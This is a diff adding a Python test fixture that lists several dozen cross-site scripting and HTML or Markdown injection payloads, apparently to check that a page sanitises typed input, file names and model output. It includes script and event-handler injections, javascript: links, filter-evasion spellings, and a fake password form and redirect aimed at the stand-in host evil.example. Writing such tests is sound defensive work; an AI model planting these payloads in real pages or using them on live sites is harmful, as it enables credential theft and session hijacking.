@@ -1,0 +1,75 @@
+"""Attacks on a page, as words that somebody types, names a file, or lets a model say."""
+
+from __future__ import annotations
+
+FOREIGN = "https://evil.example"
+RAN = "window.pwned=1"
+
+PAYLOADS = (
+    f"<script>{RAN}</script>",
+    f"<img src=x onerror={RAN}>",
+    f"<img src={FOREIGN}/a.png>",
+    f"![x]({FOREIGN}/b.png)",
+    f"![x][r]\n\n[r]: {FOREIGN}/c.png",
+    f"[click](javascript:{RAN})",
+    f"<svg onload={RAN}><animate onbegin={RAN} attributeName=x dur=1s>",
+    f"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><iframe src={FOREIGN}></iframe>",
+    f"<video src={FOREIGN}/d.mp4 autoplay></video><audio src={FOREIGN}/e.mp3 autoplay></audio>",
+    f"<div style='position:fixed;inset:0;z-index:9999;background:url({FOREIGN}/f.png)'>Sign in again</div>",
+    f"<form action={FOREIGN}><input type=password name=p><button>Sign in</button></form>",
+    f"<meta http-equiv=refresh content='0;url={FOREIGN}'><base href={FOREIGN}>",
+    f"<link rel=stylesheet href={FOREIGN}/g.css><style>@import '{FOREIGN}/h.css';</style>",
+    f"<details open ontoggle={RAN}>x</details><input autofocus onfocus={RAN}>",
+    f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;img src=x onerror={RAN}&#62;",
+    f"$$\\href{{javascript:{RAN}}}{{x}}$$ <math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
+    # out of an attribute, a comment, an element whose content is no HTML
+    f"' onmouseover='{RAN}' x='",
+    f'" autofocus onfocus="{RAN}" x="',
+    f"'><script>{RAN}</script>",
+    f'"><svg/onload={RAN}>',
+    f"--><script>{RAN}</script><!--",
+    f"</textarea><script>{RAN}</script>",
+    f"</title><script>{RAN}</script>",
+    f"</style></script><img src=x onerror={RAN}>",
+    f"]]><script>{RAN}</script>",
+    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'></noscript>",
+    # spellings that a filter may not know
+    f"<ScRiPt >{RAN}</sCrIpT\t>",
+    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
+    f"<img/src='x'/onerror\n=\n{RAN}>",
+    f"<<img src=x onerror={RAN}//",
+    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{RAN}\N{FULLWIDTH LESS-THAN SIGN}/script\N{FULLWIDTH GREATER-THAN SIGN}",
+    f"%3Cscript%3E{RAN}%3C/script%3E",
+    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
+    f"&amp;lt;img src=x onerror={RAN}&amp;gt;",
+    f"<img src=x\u2028onerror={RAN}>",
+    # elements that act by themselves
+    f"<body onload={RAN} onpageshow={RAN}>",
+    f"<marquee onstart={RAN}>x</marquee>",
+    f"<object data='javascript:{RAN}'></object><embed src='javascript:{RAN}'>",
+    f"<svg><a xlink:href='javascript:{RAN}'><text x=20 y=20>x</text></a></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RAN}</script></svg>#x'></svg>",
+    f"<svg><foreignObject><iframe src='javascript:parent.{RAN}'></iframe></foreignObject></svg>",
+    f"<math href='javascript:{RAN}'>x</math>",
+    f"<button formaction='javascript:{RAN}' autofocus>x</button>",
+    f"<template><img src=x onerror={RAN}></template><slot onslotchange={RAN}></slot>",
+    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RAN}>x</b>",
+    f"<picture><source srcset={FOREIGN}/i.png><img src=x></picture><img srcset='{FOREIGN}/j.png 2x' src=x>",
+    f"<table background={FOREIGN}/k.png><td background={FOREIGN}/l.png>x</table>",
+    f"<input type=image src={FOREIGN}/m.png><track src={FOREIGN}/n.vtt>",
+    # Markdown's own ways
+    f"[x](JaVaScRiPt&colon;{RAN})",
+    f"[x](\tjavascript:{RAN})",
+    f"[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg== '{RAN}')",
+    f"<javascript:{RAN}> <{FOREIGN}/o>",
+    f"[![x]({FOREIGN}/p.png)]({FOREIGN}/q)",
+    f"[x]: javascript:{RAN} '{RAN}'\n\n[x] and [x][x]",
+    f"```html\n</code></pre><script>{RAN}</script>\n```",
+    f"`</code><img src=x onerror={RAN}>`",
+    f"| a | <img src=x onerror={RAN}> |\n|---|---|\n| <script>{RAN}</script> | b |",
+    # at the page's own script and attributes
+    "<button data-act='forget' data-read='x' data-view='plan' class='quiet'>Press me</button>",
+    "<p id='reader' class='document'>x</p><p id='message'><textarea>x</textarea></p>",
+    f"<a href='#source-1-1' onclick={RAN}>1</a><a name=pwned id=pwned></a>",
+    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= window.pwned=1 %>",
+)
